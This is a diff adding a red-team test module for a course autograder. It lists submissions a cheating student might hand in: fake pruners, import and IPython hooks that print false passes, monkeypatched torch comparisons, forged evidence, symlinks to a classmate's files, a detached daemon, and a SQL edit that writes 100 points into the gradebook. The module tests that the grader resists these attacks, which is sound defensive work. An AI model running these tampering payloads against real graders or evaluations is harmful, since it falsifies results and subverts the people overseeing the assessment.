@@ -1,0 +1,391 @@
+"""Red-team submissions: what a determined student could hand in to get points the work does not earn.
+
+Each ``Attack`` builds a notebook from the release (with ``autograder.examples``' helpers), names the
+autograded tests it earns honestly (every other autograded test must score 0) and the status it must
+get. ``tests/test_red_team.py`` grades ``ATTACKS`` in one sandboxed run and ``UNSANDBOXED`` in a second
+run without the sandbox. Builders take ``probe``, a folder outside the grading output that the test
+prepares (a victim file, a classmate's evidence) and inspects after.
+
+The kernel is the student's: it can patch anything in it and write any evidence file. What it cannot
+do is change how the grader, in its own process, reads that evidence and checks it against its own
+checkpoint and test data, so every attack below must end with exactly the points of its real work.
+"""
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+from autograder import examples
+from ece662 import registry
+
+PART1 = frozenset(t.grade_id for t in registry.TESTS if t.part == "part1")
+PART2 = frozenset(t.grade_id for t in registry.TESTS if t.part == "part2")
+VICTIM = "victim.txt"  # in probe: a file of the grader's that a symlink in the kernel's folder points at
+CLASSMATE = "classmate-evidence"  # in probe: a correct evidence folder, as another student's would be
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    build: Callable[[Path], object]  # probe folder -> notebook
+    earns: frozenset  # the autograded tests it earns honestly
+    what: str
+    status: str = "graded"
+
+    def expected_scores(self) -> dict:
+        return {t.grade_id: float(t.points) if t.grade_id in self.earns else 0.0 for t in registry.TESTS}
+
+
+def _sweep(function: str) -> str:
+    """Part 1: ``function`` plus the sweep, recording what test_model really returns."""
+    return function + examples.P1_SWEEP
+
+
+P2_FUNCTION = examples.P2_CORRECT.split("structured_results")[0]
+
+# ------------------------------------------------------------------ Part 1 implementations
+
+NOOP = _sweep('''
+def prune_unstructured_to(model, target):
+    pass  # prunes nothing; the accuracies recorded are honest
+''')
+
+ONE_WEIGHT = _sweep('''
+def prune_unstructured_to(model, target):
+    params = [(layer, 'weight') for _, layer in prunable_layers(model)]
+    prune.global_unstructured(params, pruning_method=prune.L1Unstructured, amount=1)  # one weight per call
+''')
+
+ZERO_EVERYTHING = _sweep('''
+def prune_unstructured_to(model, target):
+    with torch.no_grad():  # "the zeroed weights are the smallest": every weight is zeroed
+        for _, layer in prunable_layers(model):
+            layer.weight.zero_()
+''')
+
+NOOP_FAKE_RESULTS = '''
+def prune_unstructured_to(model, target):
+    pass
+
+unstructured_results = {level: 0.9 for level in sparsity_levels}
+'''
+
+# Walks up to the grader's trace() in the kernel and empties its list of completed levels.
+FRAME_WALKER = '''
+import sys
+
+def prune_unstructured_to(model, target):
+    frame = sys._getframe(1)
+    while frame is not None and 'done' not in frame.f_locals:
+        frame = frame.f_back
+    if frame is not None:
+        frame.f_locals['done'].clear()  # "no level completed, no error"
+
+unstructured_results = {level: 0.9 for level in sparsity_levels}
+'''
+
+# ------------------------------------------------------------------ Part 2 and Part 4
+
+# Correct filter pruning; the recorded accuracies are objects that claim 0.99 and equal anything.
+P2_LYING_RESULTS = P2_FUNCTION + '''
+class Accuracy(float):
+    def __float__(self): return 0.99
+    def __eq__(self, other): return True
+    def __le__(self, other): return True
+    def __ge__(self, other): return True
+    __hash__ = float.__hash__
+
+structured_results = {}
+for level in structured_levels:
+    fresh = load_model(path, mode=mode)
+    prune_filters(fresh, level)
+    structured_results[level] = Accuracy(0.5)
+'''
+
+# No training at all: every kept weight is scaled by 1.001, so "most weights moved" and "correlated with
+# where they started" both hold.
+P4_SCALED_NOT_TRAINED = '''
+finetuned_model = clone_model(model)
+gradual_model = load_model(path, mode=mode)
+prune_unstructured_to(gradual_model, 0.8)
+with torch.no_grad():
+    for m in (finetuned_model, gradual_model):
+        for p in m.parameters():
+            p.mul_(1.001)
+part4_results = {'after_training': test_model(finetuned_model, test_data, mode=mode),
+                 'during_training': test_model(gradual_model, test_data, mode=mode)}
+'''
+
+# ------------------------------------------------------------------ cells inserted into the notebook
+
+# Written before the setup cell: an `ece662/` package in the kernel's working folder shadows the installed
+# one; its notebook_tests claims a pass for Part 1 and hands the other tests to the real module.
+FAKE_PACKAGE_IN_CWD = '''
+import importlib.util, os, pathlib
+real = pathlib.Path(importlib.util.find_spec('ece662').origin).parent
+os.makedirs('ece662', exist_ok=True)
+pathlib.Path('ece662/__init__.py').write_text(f'__path__.append({str(real)!r})\\n')
+pathlib.Path('ece662/notebook_tests.py').write_text(
+    'import importlib.util\\n'
+    f'spec = importlib.util.spec_from_file_location("ece662._real_tests", {str(real / "notebook_tests.py")!r})\\n'
+    'real = importlib.util.module_from_spec(spec)\\nspec.loader.exec_module(real)\\n'
+    'def run_test(grade_id, namespace):\\n'
+    '    print("Test passed.") if grade_id.startswith("test_part1") else real.run_test(grade_id, namespace)\\n')
+'''
+
+IMPORT_HOOKS = '''
+import importlib, importlib.abc, importlib.util, pathlib, sys, types
+origin = pathlib.Path(importlib.util.find_spec('ece662.checks').origin).with_name('notebook_tests.py')
+spec = importlib.util.spec_from_file_location('ece662._real_tests', origin)
+real_tests = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(real_tests)
+real_record = real_tests.record
+real_tests.record = lambda test, ns: None if test.part == 'part1' else real_record(test, ns)
+
+fake = types.ModuleType('ece662.notebook_tests')
+fake.run_test = lambda grade_id, ns: (print('Test passed.') if grade_id.startswith('test_part1')
+                                      else real_tests.run_test(grade_id, ns))
+
+class FakeTests(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path=None, target=None):
+        return importlib.util.spec_from_loader(name, self) if name == 'ece662.notebook_tests' else None
+    def create_module(self, spec): return fake
+    def exec_module(self, module): pass
+
+sys.meta_path.insert(0, FakeTests())
+sys.modules.pop('ece662.notebook_tests', None)
+importlib.reload = lambda module: fake
+importlib.import_module = lambda name, package=None: fake
+'''
+
+IPYTHON_HOOKS = '''
+import os, sys
+ip = get_ipython()
+ip.input_transformers_cleanup.append(
+    lambda lines: ["print('Test passed.')\\n"] if any('test_part1' in l for l in lines) else lines)
+for name in ('run_cell', 'run_cell_async'):
+    original = getattr(ip, name)
+    def clear_errors(*args, _original=original, **kwargs):
+        result = _original(*args, **kwargs)
+        if hasattr(result, 'error_in_exec'):
+            result.error_in_exec = None
+        return result
+    setattr(ip, name, clear_errors)
+ip.set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: print('Test passed.'))
+ip.events.register('pre_run_cell', lambda info: print('HOOK saw:', (info.raw_cell or '')[:200]))
+sys.settrace(lambda frame, event, arg: None)
+print('Test passed.\\nAll tests passed: 25 / 25 points')
+from IPython.display import HTML, Javascript, display
+display(HTML('<img src=x onerror="document.title = 1">'), Javascript('document.title = "owned"'))
+for _ in range(64):  # 64 MiB of output for the grader to hold, save and render
+    sys.stdout.write('x' * 2**20)
+'''
+
+LYING_TORCH = '''
+import builtins, torch
+saved = (torch.equal, torch.Tensor.__eq__, torch.Tensor.all, builtins.abs, builtins.sum)
+torch.equal = lambda a, b: True
+torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
+torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
+builtins.abs = lambda x: 0.0
+builtins.sum = lambda values, start=0: 0.0
+'''
+RESTORE_TORCH = "torch.equal, torch.Tensor.__eq__, torch.Tensor.all, builtins.abs, builtins.sum = saved\n"
+
+ENV_REDIRECT = '''
+import os
+saved_env = {k: os.environ.get(k) for k in ('ECE662_MODEL_DIR', 'CINIC10_DIR', 'ECE662_EVIDENCE_DIR')}
+os.makedirs('decoy/models', exist_ok=True)
+half = load_model(path, mode=mode)
+with torch.no_grad():
+    for p in half.parameters():
+        p.mul_(0.5)
+save_model(half, 'decoy/models/torch.model', mode=mode)
+os.environ.update(ECE662_MODEL_DIR=os.path.abspath('decoy/models'), CINIC10_DIR=os.path.abspath('decoy/data'),
+                  ECE662_EVIDENCE_DIR=os.path.abspath('decoy/evidence'))
+'''
+RESTORE_ENV = "os.environ.update({k: v for k, v in saved_env.items() if v})\n"
+
+# Before the Part 1 tests: evidence written by hand (correct one-shot pruned copies of the course model,
+# invented accuracies), marked as recorded so the test cells write nothing over it.
+FORGED_EVIDENCE = '''
+from ece662 import evidence, notebook_tests, registry
+
+def pruned_copy(level):
+    m = load_model(path, mode=mode)
+    prune.global_unstructured([(l, 'weight') for _, l in prunable_layers(m)],
+                              pruning_method=prune.L1Unstructured, amount=level)
+    return notebook_tests.canonical_state(m)
+
+folder = evidence.evidence_dir()
+evidence.write_trace(folder, registry.PART1_TRACE, [pruned_copy(l) for l in sparsity_levels], sparsity_levels,
+                     '', 'torch')
+evidence.write_model(folder, registry.PART1_MODEL, pruned_copy(0.8), 'torch')
+evidence.write_results(folder, registry.PART1_RESULTS, {level: 0.99 for level in sparsity_levels})
+notebook_tests._recorded.update({'part1_trace', 'part1_model', 'part1_results'})
+'''
+
+# After the Part 1 tests recorded: their evidence files become things a careless reader would choke on.
+SPECIAL_FILES = '''
+import os
+from ece662.evidence import evidence_dir
+folder = evidence_dir()
+os.remove(folder / 'part1_trace.safetensors')
+with open(folder / 'part1_trace.safetensors', 'wb') as f:
+    f.truncate(8 * 2**30)  # 8 GiB, sparse: no disk used
+os.remove(folder / 'part1_model.safetensors')
+os.mkfifo(folder / 'part1_model.safetensors')
+os.remove(folder / 'part1_results.json')
+os.symlink('/dev/zero', folder / 'part1_results.json')
+'''
+
+MALFORMED_FILES = '''
+import json
+from ece662.evidence import evidence_dir
+folder = evidence_dir()
+
+def rewrite_header(name, change):
+    data = (folder / name).read_bytes()
+    size = int.from_bytes(data[:8], 'little')
+    header = json.loads(data[8:8 + size])
+    change(header)
+    text = json.dumps(header).encode()
+    (folder / name).write_bytes(len(text).to_bytes(8, 'little') + text + data[8 + size:])
+
+rewrite_header('part1_model.safetensors', lambda h: h['features.0.weight'].update(shape=None))
+rewrite_header('part1_trace.safetensors', lambda h: h['__metadata__'].update(levels='[' + '9' * 400 + ']'))
+(folder / 'part1_results.json').write_text(
+    '{"format": "ece662-evidence", "version": "1", "kind": "results", "source": "unstructured_results", '
+    '"items": ' + '[' * 30000 + ']' * 30000 + '}')
+'''
+
+EVIDENCE_DIR_LINK = '''
+import os, shutil
+from ece662.evidence import evidence_dir
+shutil.rmtree(evidence_dir())
+os.symlink({classmate!r}, evidence_dir())  # a classmate's correct evidence
+'''
+
+# nbgrader writes the graded notebook into the kernel's folder after the kernel has gone.
+GRADED_NOTEBOOK_LINK = '''
+import os
+if os.path.lexists('pruning.ipynb'):
+    os.remove('pruning.ipynb')
+os.symlink({victim!r}, 'pruning.ipynb')
+'''
+
+# A double-forked, detached process that outlives the kernel and keeps writing into the evidence folder.
+DAEMON = '''
+import os, time
+from ece662.evidence import evidence_dir
+kernel, heartbeat = os.getpid(), str(evidence_dir() / 'heartbeat')
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while os.path.exists(f'/proc/{kernel}'):
+            time.sleep(0.01)
+        for beat in range(30000):  # about 10 minutes after the kernel died
+            with open(heartbeat, 'w') as f:
+                f.write(str(beat))
+            time.sleep(0.02)
+    os._exit(0)
+'''
+
+# Unsandboxed only: the kernel can open the worker's own gradebook and write scores into it.
+GRADEBOOK_EDIT = '''
+import glob, sqlite3
+for db in glob.glob('../../../gradebook.db'):
+    con = sqlite3.connect(db)
+    con.execute('UPDATE grade SET manual_score = 100, auto_score = 100')
+    con.execute('UPDATE grade_cells SET max_score = 100')
+    con.commit()
+    print('gradebook edited:', db)
+'''
+
+
+# ------------------------------------------------------------------ notebooks
+
+def _notebook(part1: str | None, part2: str | None = examples.P2_CORRECT, part4: str | None = None):
+    """The release with Parts 1, 2 and 4 filled in (None: the released stub, which raises)."""
+    return examples.fill(examples.release_notebook(), part1, part2, part4)
+
+
+def _tamper_cell_flags(nb):
+    """A test cell handed in as a solution cell printing a pass, and a solution cell claiming 100 points."""
+    cells = {c.get("id"): c for c in nb.cells}
+    cells["test_part1_weights_only"].metadata.nbgrader.update(grade=False, locked=False, solution=True)
+    cells["test_part1_weights_only"].source = "print('Test passed.')"
+    cells["part1_code"].metadata.nbgrader.update(grade=True, points=100)
+    return nb
+
+
+def _after(nb, cell_id: str, *codes: str):
+    for code in reversed(codes):
+        examples.insert_after(nb, cell_id, code)
+    return nb
+
+
+def _around_part1_tests(nb, before: str, after: str):
+    """``before`` runs just before the Part 1 test cells, ``after`` just after them (Part 2 is left intact)."""
+    return _after(_after(nb, "test_part1_accuracies", after), "part1_code", before)
+
+
+def _last(nb, *codes: str):
+    for code in codes:
+        examples.insert_after(nb, nb.cells[-1].get("id"), code)
+    return nb
+
+
+def _import_hooks(probe):
+    nb = _around_part1_tests(_notebook(NOOP_FAKE_RESULTS), ENV_REDIRECT + IMPORT_HOOKS, RESTORE_ENV)
+    return _after(nb, "setup_md", FAKE_PACKAGE_IN_CWD)
+
+
+def _links(probe):
+    return _last(_notebook(NOOP_FAKE_RESULTS), GRADED_NOTEBOOK_LINK.format(victim=str(probe / VICTIM)),
+                 EVIDENCE_DIR_LINK.format(classmate=str(probe / CLASSMATE)))
+
+
+ATTACKS = [
+    Attack("noop_pruner", lambda probe: _notebook(NOOP), PART2,
+           "Part 1 prunes nothing; its accuracies are honest"),
+    Attack("one_weight_pruner", lambda probe: _notebook(ONE_WEIGHT, P2_LYING_RESULTS),
+           PART2 - {"test_part2_accuracies"},
+           "Part 1 prunes one weight per call; Part 2's accuracies are objects lying in __float__ and __eq__"),
+    Attack("zero_everything_pruner", lambda probe: _notebook(ZERO_EVERYTHING), PART2,
+           "Part 1 zeroes every weight, so 'the zeroed weights are the smallest' holds vacuously"),
+    Attack("scaled_not_trained", lambda probe: _notebook(examples.P1_CORRECT, examples.P2_CORRECT,
+                                                         P4_SCALED_NOT_TRAINED), PART1 | PART2,
+           "Part 4 'trains' by multiplying every weight by 1.001"),
+    Attack("import_hooks", _import_hooks, PART2,
+           "an ece662/ package in the kernel's folder, a meta_path finder, importlib.reload/import_module and "
+           "notebook_tests.record patched, the model, data and evidence folders redirected through os.environ"),
+    Attack("ipython_hooks", lambda probe: _after(_notebook(NOOP_FAKE_RESULTS), "part1_code", IPYTHON_HOOKS), PART2,
+           "input transformer, run_cell wrapper, set_custom_exc, settrace, pre_run_cell hook, printed passes, "
+           "HTML/JavaScript outputs, 64 MiB of printed output"),
+    Attack("lying_torch_and_frames", lambda probe: _around_part1_tests(_notebook(FRAME_WALKER), LYING_TORCH,
+                                                                       RESTORE_TORCH), PART2,
+           "torch.equal, Tensor.__eq__, Tensor.all, builtins.abs/sum patched; the pruner walks frames into trace()"),
+    Attack("cell_flags", lambda probe: _tamper_cell_flags(_notebook(NOOP_FAKE_RESULTS)), PART2,
+           "a test cell's nbgrader flags turned into a solution cell's, a solution cell made a 100-point test"),
+    Attack("forged_evidence", lambda probe: _after(_notebook(NOOP_FAKE_RESULTS), "part1_code", FORGED_EVIDENCE),
+           PART2 | {"test_part1_cumulative", "test_part1_global", "test_part1_weights_only", "test_part1_final_model"},
+           "evidence written by hand: a forger earns what its forged outcome shows (it had to prune correctly to "
+           "forge it), never accuracies it did not measure"),
+    Attack("evidence_special_files", lambda probe: _after(_notebook(examples.P1_CORRECT), "test_part1_accuracies",
+                                                          SPECIAL_FILES), PART2,
+           "Part 1's evidence replaced by a sparse 8 GiB file, a FIFO and a symlink to /dev/zero"),
+    Attack("evidence_malformed", lambda probe: _after(_notebook(examples.P1_CORRECT), "test_part1_accuracies",
+                                                      MALFORMED_FILES), PART2,
+           "Part 1's evidence with a null shape, a 400-digit level and 30000-deep JSON nesting"),
+    Attack("links", _links, frozenset(),
+           "the graded notebook's path made a symlink to a grader file; the evidence folder a symlink to a "
+           "classmate's correct evidence"),
+    Attack("detached_daemon", lambda probe: _last(_notebook(NOOP_FAKE_RESULTS), DAEMON), PART2,
+           "a double-forked process keeps writing into the evidence folder after the kernel died"),
+]
+
+# Graded once more without a sandbox, where the process sweep and the tamper guard are the defences.
+UNSANDBOXED = [a for a in ATTACKS if a.name in ("links", "detached_daemon")] + [
+    Attack("gradebook_edit", lambda probe: _last(_notebook(NOOP_FAKE_RESULTS), GRADEBOOK_EDIT), PART2,
+           "unsandboxed: the kernel writes scores into the worker's gradebook")]
+
